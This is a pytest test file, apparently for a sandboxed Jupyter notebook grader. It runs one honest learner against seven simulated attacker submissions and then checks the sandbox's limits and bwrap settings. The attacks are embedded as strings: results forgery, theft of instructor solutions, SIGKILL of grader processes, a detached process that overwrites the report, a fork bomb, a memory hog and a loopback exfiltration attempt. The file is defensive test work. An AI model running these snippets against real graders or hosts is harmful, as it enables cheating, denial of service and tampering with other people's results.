"""The sandbox against a class with attackers in it: `python -m grader grade`, real kernels.

One honest learner is graded in the same command as seven who attack the grading, each
with one of the three tasks of the fixture chapter (the other two answered right):

- forger: appends forged verdicts to nbval's records file (full marks for itself, a lost
  kernel for everyone else), wherever it can find one;
- thief: reads the instructor's notebook by path (solutions/ next to the packages it
  imports, or the folder the grader was given) and runs its solution;
- killer: SIGKILLs the grader and its nbval processes, found among the processes it sees;
- lingerer: leaves a process in a session of its own with a clean environment, which
  rewrites the JSON report once grading is over;
- forkbomb, hog: fork without end, allocate without end;
- spy: connects to a server of this test's on the machine's loopback.

Each earns nothing by its attack, harms nobody (the honest learner's verdicts are intact,
and so are each attacker's other tasks), and after `grade` returns nothing of any
submission is running and the grader's temporary folders are gone. The whole class is
graded once (a module fixture); the tests below read that one run.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import uuid
from pathlib import Path

import nbformat
import psutil
import pytest

from grader.host.notebook import COURSE_ROOT, load_chapter
from grader.host.release import release
from grader.host.sandbox import TMP, Limits, bwrap_arguments, exceeded

from .helpers import grade, with_answers, write_submissions
from .test_grading import HINTS, RIGHT, WRONG

FIXTURES = Path(__file__).parent / "fixtures"
CHAPTER = load_chapter(FIXTURES / "90_fixture.ipynb")
CELL_TIMEOUT = 10
TOKEN = uuid.uuid4().hex  # in the command line of the lingerer's process

FORGE = """\
import glob, json, os
for _records in glob.glob(os.path.join(os.environ.get("TMPDIR", "/tmp"), "**", "results.jsonl"), recursive=True) + \\
        glob.glob("results.jsonl"):
    with open(_records, "a") as _file:
        for _notebook in glob.glob(os.path.join(os.path.dirname(_records), "*.ipynb")):
            _mine = "FORGER" in open(_notebook).read()
            for _cell in range(20):
                _file.write(json.dumps({"file": _notebook, "cell": _cell, "outcome": "passed" if _mine else "failed",
                                        "error": None, **({} if _mine else {"fatal": "died"})}) + "\\n")
"""
STEAL = """\
import json, os, pathlib, sys
_places = [pathlib.Path(p) for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p]
_places += [pathlib.Path({root!r}), pathlib.Path({fixtures!r})]
_found = []
for _place in _places:
    for _notebook in [*_place.glob("solutions/*.ipynb"), *_place.glob("*.ipynb")]:
        for _cell in json.loads(_notebook.read_text())["cells"]:
            if "def square" in "".join(_cell["source"]) and "solution" in _cell["metadata"].get("tags", []):
                _found.append("".join(_cell["source"]))
if not _found:
    raise FileNotFoundError("no instructor notebook to be read")
pathlib.Path("stolen.py").write_text(_found[0])
sys.path.insert(0, ".")
from stolen import square
"""
KILL = """\
import os, signal
for _pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    try:
        _command = open(f"/proc/{_pid}/cmdline", "rb").read()
    except OSError:
        continue
    if _pid != os.getpid() and (b"grader\\x00grade" in _command or b"grader.plugin.recorder" in _command):
        os.kill(_pid, signal.SIGKILL)
"""
LINGER = """\
import subprocess, sys
_code = (
    "import time\\n"
    "while True:\\n"
    "    try:\\n"
    "        open({report!r}, 'w').write('{{}}')\\n"
    "    except OSError:\\n"
    "        pass\\n"
    "    time.sleep(0.2)\\n"
    "# {token}"
)
subprocess.Popen([sys.executable, "-c", _code], env={{}}, start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
FORK = """\
import os
while True:
    os.fork()
"""
HOG = """\
_hoard = []
while True:
    _hoard.append(bytearray(b"x" * (32 << 20)))
"""
SPY = """\
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"answers")
    _connected = True
except OSError:
    _connected = False
largest = max(scaled) if _connected else min(scaled)
"""


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = tmp_path_factory.mktemp("class")
    temp = root / "tmp"  # the grader's temporary folders: empty again once it is done
    temp.mkdir()
    release(FIXTURES, root / "exercises")
    exercise = nbformat.read(root / "exercises" / "90_fixture.ipynb", as_version=4)
    server = socket.create_server(("127.0.0.1", 0))
    answers = {
        "honest": RIGHT,
        "forger": {**RIGHT, "9.1": "# FORGER\n" + FORGE + WRONG["9.1"]},
        "thief": {**RIGHT, "9.1": STEAL.format(root=str(COURSE_ROOT), fixtures=str(FIXTURES))},
        "killer": {**RIGHT, "9.1": KILL + WRONG["9.1"]},
        "lingerer": {**RIGHT, "9.1": LINGER.format(report=str(root / "grades.json"), token=TOKEN) + WRONG["9.1"]},
        "forkbomb": {**RIGHT, "9.2": FORK},
        "hog": {**RIGHT, "9.2": HOG},
        "spy": {**RIGHT, "9.3": SPY.format(port=server.getsockname()[1])},
    }
    paths = write_submissions(root, {label: with_answers(exercise, CHAPTER, code) for label, code in answers.items()})
    try:
        graded = grade(
            root,
            paths,
            CELL_TIMEOUT,
            solutions=FIXTURES,
            env={**os.environ, "TMPDIR": str(temp)},
            timeout=600,
            options=("--jobs", "2", "--memory-limit", "0.5", "--process-limit", "64"),
        )
        # Right after grade returned: what of the class is still running?
        graded.left = [
            process.info["cmdline"]
            for process in psutil.process_iter(["cmdline", "status"])
            if process.info["status"] != psutil.STATUS_ZOMBIE
            and any(TOKEN in part or str(temp) in part for part in process.info["cmdline"] or [])
        ]
        graded.temp = sorted(path.name for path in temp.iterdir())
        server.settimeout(0)
        try:
            server.accept()
            graded.spied = True
        except BlockingIOError:
            graded.spied = False
    finally:
        server.close()
    return graded


def test_the_grader_survives_the_class_and_reports_everyone(attacked):
    assert attacked.run.returncode == 1, attacked.run.stderr
    assert "Traceback" not in attacked.run.stderr
    assert sorted(attacked.entries) == sorted(
        ["honest", "forger", "thief", "killer", "lingerer", "forkbomb", "hog", "spy"]
    )
    for label in attacked.entries:
        assert f"{label}.ipynb (chapter 90_fixture)" in attacked.run.stdout
    assert json.loads(attacked.report.read_text())["summary"]["sandboxed"] is True


def test_the_honest_classmate_keeps_full_marks(attacked):
    assert attacked.verdicts("honest") == {n: (True, f"Exercise {n} passed") for n in ("9.1", "9.2", "9.3")}


def test_attackers_earn_nothing_and_keep_their_other_tasks(attacked):
    right = {n: (True, f"Exercise {n} passed") for n in RIGHT}
    for label in ("forger", "killer", "lingerer"):  # their answer to 9.1 is wrong; the attack changes nothing
        assert attacked.verdicts(label) == {**right, "9.1": (False, HINTS["9.1"])}, label
    assert attacked.verdicts("thief") == {
        **right,
        "9.1": (False, "your solution raised FileNotFoundError: no instructor notebook to be read"),
    }
    assert attacked.verdicts("spy") == {**right, "9.3": (False, HINTS["9.3"])}
    assert not attacked.spied, "a connection from a sandbox reached the machine's loopback"


def test_fork_bomb_and_memory_hog_fail_their_own_task_with_the_limit(attacked):
    right = {n: (True, f"Exercise {n} passed") for n in RIGHT}
    assert attacked.reasons("forkbomb") == ["passed", "too_many_processes", "passed"]
    assert attacked.verdicts("forkbomb")["9.2"][1].startswith("too many processes: ")
    assert attacked.reasons("hog") == ["passed", "out_of_memory", "passed"]
    assert attacked.verdicts("hog")["9.2"][1].startswith("out of memory: ")
    for label in ("forkbomb", "hog"):
        assert {n: v for n, v in attacked.verdicts(label).items() if n != "9.2"} == {
            n: v for n, v in right.items() if n != "9.2"
        }


def test_nothing_of_the_class_outlives_grading(attacked):
    assert attacked.left == [], attacked.left
    assert attacked.temp == [], attacked.temp  # nbval's folders, with their records
    assert json.loads(attacked.report.read_text())["submissions"], "the report was overwritten"


def test_no_sandbox_is_reported_as_unsandboxed(tmp_path):
    paths = write_submissions(tmp_path, {"91_other": nbformat.read(FIXTURES / "91_other.ipynb", as_version=4)})
    graded = grade(tmp_path, paths, CELL_TIMEOUT, solutions=FIXTURES, timeout=300, options=("--no-sandbox",))
    assert graded.run.returncode == 0, graded.run.stdout + graded.run.stderr
    assert graded.run.stdout.startswith("unsandboxed (--no-sandbox): learners' code ran with your rights")
    assert json.loads(graded.report.read_text())["summary"]["sandboxed"] is False
    assert graded.entries["91_other"]["score"] == 1.0


def test_grading_refuses_where_no_sandbox_can_be_made(tmp_path):
    """No bwrap on PATH: one line that says how to fix it, and nothing graded or written."""
    paths = write_submissions(tmp_path, {"91_other": nbformat.read(FIXTURES / "91_other.ipynb", as_version=4)})
    report = tmp_path / "grades.json"
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "grader",
            "grade",
            "--solutions",
            str(FIXTURES),
            *map(str, paths),
            "--report",
            str(report),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PATH": str(tmp_path)},  # a folder without bwrap
    )
    assert run.returncode == 2 and run.stdout == ""
    assert run.stderr.count("\n") == 1, run.stderr
    assert run.stderr.startswith("error: bubblewrap (bwrap) is not installed")
    assert "apt-get install bubblewrap" in run.stderr and "--no-sandbox" in run.stderr
    assert not report.exists()


def test_a_sandbox_sees_none_of_the_course_but_the_packages_it_imports():
    arguments = bwrap_arguments("bwrap", Limits())
    for option in (
        "--unshare-pid",
        "--unshare-ipc",
        "--unshare-net",
        "--die-with-parent",
        "--new-session",
        "--clearenv",
    ):
        assert option in arguments
    assert arguments[arguments.index("--cap-drop") + 1] == "ALL"
    inside = {arguments[i + 2] for i, a in enumerate(arguments) if a in ("--ro-bind", "--ro-bind-try", "--bind")}
    course = sorted(Path(p).relative_to(COURSE_ROOT).as_posix() for p in inside if Path(p).is_relative_to(COURSE_ROOT))
    assert course == [".venv", "coursekit", "grader", "vizlib"]
    assert not {a for a in arguments if a.startswith("/etc/") and ("shadow" in a or "ssh" in a or "ssl" in a)}


def test_a_course_checked_out_under_tmp_is_bound_on_top_of_the_private_tmp(monkeypatch):
    """The sandbox mounts its own empty TMP; the course's venv and packages, wherever they
    are, must be bound after it, or a checkout under TMP vanishes and no kernel starts."""
    course = Path(TMP, "a-course")
    monkeypatch.setattr("grader.host.sandbox.COURSE_ROOT", course)
    monkeypatch.setattr(sys, "prefix", str(course / ".venv"))
    arguments = bwrap_arguments("bwrap", Limits())
    private_tmp = next(i for i in range(len(arguments)) if arguments[i : i + 2] == ["--tmpfs", TMP])
    under_tmp = [
        i for i, a in enumerate(arguments) if a.startswith("--ro-bind") and Path(arguments[i + 2]).is_relative_to(TMP)
    ]
    assert {arguments[i + 2] for i in under_tmp} >= {str(course / ".venv"), str(course / "vizlib")}
    assert all(i > private_tmp for i in under_tmp), arguments


@pytest.mark.parametrize(
    "files, limit",
    [
        ({"m/memory.oom_control": "oom_kill_disable 0\nunder_oom 0\noom_kill 0", "p/pids.events": "max 0"}, None),
        ({"m/memory.oom_control": "oom_kill_disable 0\nunder_oom 0\noom_kill 1", "p/pids.events": "max 0"}, "memory"),
        ({"m/memory.oom_control": "oom_kill 0", "p/pids.events": "max 3"}, "processes"),
        # cgroup v2: memory.events counts reaching memory.max ("max"): not a process refused
        ({"g/memory.events": "low 0\nhigh 0\nmax 5\noom 0\noom_kill 0", "g/pids.events": "max 0"}, None),
        ({"g/memory.events": "max 5\noom 1\noom_kill 1", "g/pids.events": "max 0"}, "memory"),
    ],
)
def test_a_limit_is_read_from_the_control_groups_counters(tmp_path, files, limit):
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text + "\n")
    assert exceeded(sorted({str((tmp_path / name).parent) for name in files})) == limit
